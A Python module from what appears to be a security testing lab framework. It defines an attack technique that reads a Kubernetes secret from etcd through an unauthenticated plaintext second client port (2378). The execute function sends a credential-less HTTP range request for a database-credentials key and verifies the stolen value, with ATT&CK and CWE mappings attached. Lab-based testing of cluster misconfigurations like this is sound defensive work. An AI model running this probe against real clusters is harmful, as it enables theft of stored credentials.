"""Read a secret from etcd through a second, plaintext port beside the one with mutual TLS.

Somebody opens such a port for monitoring or debugging, and it stays open. A review that looks
only at the port with TLS finds its certificates in order. The attacker needs a connection to port
2378 of an etcd machine. They ask for a secret over plain HTTP. It stops if etcd listens for
clients on one port only.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.etcd_rights import KeyRange
from labkit.techniques._lib.machines.reach import request
from labkit.techniques._lib.stores.etcd import (
    API,
    NO_USER,
    as_apiserver,
    decode,
    encode,
    may,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    SECRETS,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
    all_of,
    holds,
    then,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("shop", "db-credentials", "password")
KEY = "/registry/secrets/shop/db-credentials"
#: The port to try, in both environments, whether or not etcd listens there.
SERVER, PORT = "etcd1", 2378
CHANNEL = f"anyone@network -> etcd@{SERVER}:{PORT}"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the port is open, whether etcd has users, and whether it stores plaintext."""
    found = model.open_channels(CHANNEL)
    if not found:
        return Prediction(False, tuple(_listens(model.environment)))
    channel = found[0]
    reads = may(model, channel, None, "read", KeyRange.one(KEY))
    reached = all_of(holds(channel.client_authentication, "none"), reads)
    return then(reached, stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask the second port for a secret, over plain HTTP."""
    secret = true_secret(lab, *WANTED)
    body = f'{{"key": "{encode(KEY.encode())}"}}'.encode()
    url = f"http://{SERVER}:{PORT}{API}/range"
    answer = request(lab, url, foothold=foothold, body=body)
    evidence = [f"asked {SERVER}:{PORT} for {KEY}, without a credential and without TLS"]
    reason = answer.refusal
    if not answer.refusal:
        value = b"".join(decode(answer))
        if secret.found_in(value):
            evidence.append(f"read: {secret.proof}")
            reason = f"HTTP {answer.status}, the second port does not authenticate callers"
            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))
        if not value.startswith(b"k8s:enc:"):
            raise ProbeError(f"{SERVER}:{PORT} answered, but not with {secret}")
        reason = "the value is a ciphertext"
    elif NO_USER.encode() in answer.body:
        reason = f"etcd: {NO_USER}"
    elif answer.refusal != "connection refused":
        raise ProbeError(f"{SERVER}:{PORT}: inconclusive answer {answer.refusal}")
    if as_apiserver(lab, "get", KEY, "--keys-only").split() != [KEY]:
        raise ProbeError(f"positive control: the apiserver cannot read {KEY} from etcd")
    control = "on port 2379 the apiserver gets the key"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)


def _listens(env: Environment) -> list[str]:
    return [f"{what}: {value}: {read_in}" for what, value, read_in in _settings(env)]


def _settings(env: Environment) -> list[Setting]:
    """Return the addresses on which etcd listens for clients."""
    found = env.component(f"etcd@{SERVER}").setting("listen-client-urls")
    return [("where etcd listens", found.value, str(found.source))]


TECHNIQUE = Technique(
    name="etcd-second-listener",
    title="Read a secret out of etcd by a second port without TLS",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(SECRETS,),
    about="* -> etcd@*:237?",
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1046", "T1552.007"),
    stride=("information disclosure",),
    cwe=("CWE-306", "CWE-319", "CWE-1327"),
    sources=(
        "https://etcd.io/docs/latest/op-guide/configuration/",
        "https://etcd.io/docs/latest/op-guide/security/",
        "https://attack.mitre.org/techniques/T1552/007/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
)
